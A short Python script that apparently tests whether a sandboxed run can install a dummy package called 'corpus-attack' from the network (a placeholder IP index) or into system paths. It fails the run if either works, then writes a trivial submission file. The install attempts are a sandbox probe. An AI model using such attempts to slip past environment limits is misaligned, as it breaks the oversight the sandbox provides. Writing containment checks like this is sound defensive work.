import csv
import subprocess
import sys

import os

folder = "/tmp/attack"
os.makedirs(folder)
with open(f"{folder}/setup.py", "w") as file:
    file.write(
        "from setuptools import setup\nprint('ran under the limits of the run')\nsetup(name='corpus-attack', version='1')\n"
    )
for words in (
    ["corpus-attack"],
    ["--index-url", "http://198.51.100.1/simple", "corpus-attack"],
    ["--no-index", folder],
    ["--user", "--no-index", folder],
):
    try:
        done = subprocess.run(
            [sys.executable, "-m", "pip", "install", "--retries", "0", "--timeout", "1", *words],
            capture_output=True,
            timeout=20,
        )
    except subprocess.TimeoutExpired:
        continue
    if done.returncode == 0 and "198.51.100.1" in words:
        sys.exit("installed from the network")
planted = [
    path for path in sys.path if path.startswith(("/env", "/usr")) and os.path.exists(f"{path}/corpus_attack")
]
if planted:
    sys.exit(f"the environment has changed: {planted}")

with open("/input/test.csv") as test, open("/output/submission.csv", "w") as out:
    out.write("id,target\n")
    for row in csv.DictReader(test):
        out.write(f"{row['id']},{int(float(row['x']) > 0)}\n")
